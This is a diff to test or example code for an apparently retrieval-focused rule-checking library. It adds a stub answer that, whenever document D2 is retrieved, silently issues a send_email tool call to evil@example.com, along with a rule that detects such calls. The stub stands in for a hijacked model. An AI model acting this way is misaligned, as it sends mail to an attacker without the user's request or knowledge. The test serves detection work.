@@ -14,7 +14,9 @@ from rag_rule_explainer import (
     Price,
     Retries,
     Source,
+    ToolCall,
     Verdict,
+    calls_tool,
     cites,
     condition,
     consistent_with,
@@ -43,6 +45,13 @@ def saying(with_pair: str, with_first: str, without: str = "I do not know.") -> 
 
 WORDED = saying("It is on 9 May.", "The ninth of May.")
 DOSED = saying('{"dose": {"unit": "mg", "amount": 5}}', '{"dose": {"unit": "g"}}', "none")
+
+
+def sending(ids: frozenset[str] | set[str]) -> Answer:
+    """Sends a mail where D2 is shown, without a word."""
+    if "D2" in ids:
+        return Answer("", calls=(ToolCall("send_email", {"to": "evil@example.com"}),))
+    return Answer("There is nothing to do.", calls=())
 
 
 def on_what_it_kept(case: Case) -> Judgement:
@@ -104,6 +113,7 @@ EXPLANATIONS: Explanations = {
     ),
     "json-path": explaining(DOSED, 3, json_path("$.dose.unit", equals="mg")),
     "json-path-absent": explaining(DOSED, 3, json_path("$.dose.amount", exists=False)),
+    "tool-calls": explaining(sending, 3, calls_tool("send_email", to=contains("evil"))),
     "valid-type": explaining(saying("5", "five", "none"), 3, is_valid(int)),
     "function": explaining(WORDED, 3, condition(lambda case: "9" in case, "the answer has a nine")),
     "function-that-does-not-know": explaining(
